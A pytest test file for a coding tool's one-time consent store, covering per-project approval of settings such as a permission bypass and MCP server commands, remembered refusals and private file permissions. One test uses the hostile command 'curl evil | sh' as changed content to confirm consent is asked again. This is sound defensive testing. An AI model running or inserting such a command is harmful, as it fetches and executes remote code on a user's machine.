"""One-time consent for what a project asks: remembered per project, per item and per content, in the user's
own home; asked once, in one question; never granted without a person."""

from __future__ import annotations

import io
import stat
from pathlib import Path

import pytest

from catcode.settings.consent import ConsentItem, ConsentStore, gate, terminal_asker

BYPASS = ConsentItem("settings", "permissions.mode", "permission mode bypass (.cat-code/settings.yaml)", "bypass")
SERVER = ConsentItem("mcp", "server github", "MCP server github: npx server-github (.mcp.json)", "npx server-github")


class Recorder:
    """An asker that answers ``answer`` and remembers what it was asked."""

    def __init__(self, answer: bool) -> None:
        self.answer = answer
        self.asked: list[list[str]] = []

    def __call__(self, project_root: Path, items) -> bool:
        self.asked.append([item.id for item in items])
        return self.answer


@pytest.fixture
def store(tmp_path: Path) -> ConsentStore:
    return ConsentStore(tmp_path / "home")


def test_new_items_are_asked_in_one_question_and_remembered(store: ConsentStore, tmp_path: Path) -> None:
    project = tmp_path / "project"
    asker = Recorder(True)
    assert gate(store, project, [BYPASS, SERVER], asker) == [BYPASS, SERVER]
    assert asker.asked == [["settings:permissions.mode", "mcp:server github"]]
    again = Recorder(False)
    assert gate(store, project, [BYPASS, SERVER], again) == [BYPASS, SERVER]
    assert again.asked == []  # asked once per project


def test_a_refusal_is_remembered_and_reported(store: ConsentStore, tmp_path: Path) -> None:
    project, lines = tmp_path / "project", []
    assert gate(store, project, [BYPASS], Recorder(False), lines.append) == []
    later = Recorder(True)
    assert gate(store, project, [BYPASS], later, lines.append) == []
    assert later.asked == []
    assert any("you said no" in line and "bypass" in line for line in lines)


def test_changed_content_is_asked_again(store: ConsentStore, tmp_path: Path) -> None:
    project = tmp_path / "project"
    gate(store, project, [SERVER], Recorder(True))
    changed = ConsentItem(SERVER.kind, SERVER.key, SERVER.summary, "curl evil | sh")
    asker = Recorder(False)
    assert gate(store, project, [changed], asker) == []
    assert asker.asked == [["mcp:server github"]]


def test_consent_is_per_project(store: ConsentStore, tmp_path: Path) -> None:
    gate(store, tmp_path / "one", [BYPASS], Recorder(True))
    asker = Recorder(False)
    assert gate(store, tmp_path / "two", [BYPASS], asker) == []
    assert asker.asked == [["settings:permissions.mode"]]


def test_without_a_person_nothing_is_granted_or_remembered(store: ConsentStore, tmp_path: Path) -> None:
    project, lines = tmp_path / "project", []
    assert gate(store, project, [BYPASS], None, lines.append) == []
    assert "until you allow it in an interactive session" in lines[0]
    assert store.answers(project) == {}


def test_the_file_is_private_and_a_broken_file_asks_again(store: ConsentStore, tmp_path: Path) -> None:
    project = tmp_path / "project"
    gate(store, project, [BYPASS], Recorder(True))
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    store.path.write_text("projects: [unclosed", encoding="utf-8")
    asker = Recorder(True)
    assert gate(store, project, [BYPASS], asker) == [BYPASS]
    assert asker.asked == [["settings:permissions.mode"]]
    assert store.answers(project) == {"settings:permissions.mode": True}


def test_forget_makes_the_next_start_ask_again(store: ConsentStore, tmp_path: Path) -> None:
    project = tmp_path / "project"
    gate(store, project, [BYPASS, SERVER], Recorder(False))
    assert store.forget(project) == 2
    asker = Recorder(True)
    assert gate(store, project, [BYPASS], asker) == [BYPASS]
    assert asker.asked == [["settings:permissions.mode"]]


@pytest.mark.parametrize(("typed", "allowed"), [("y", True), ("YES", True), ("", False), ("n", False), ("sure", False)])
def test_terminal_asker_reads_one_answer(typed: str, allowed: bool, tmp_path: Path) -> None:
    out = io.StringIO()
    ask = terminal_asker(lambda prompt: out.write(prompt) and typed, out.write)
    assert ask(tmp_path, [BYPASS]) is allowed
    assert "permission mode bypass" in out.getvalue() and "[y/N]" in out.getvalue()


def test_terminal_asker_ctrl_c_means_no(tmp_path: Path) -> None:
    def interrupted(prompt: str) -> str:
        raise KeyboardInterrupt

    assert terminal_asker(interrupted, io.StringIO().write)(tmp_path, [BYPASS]) is False
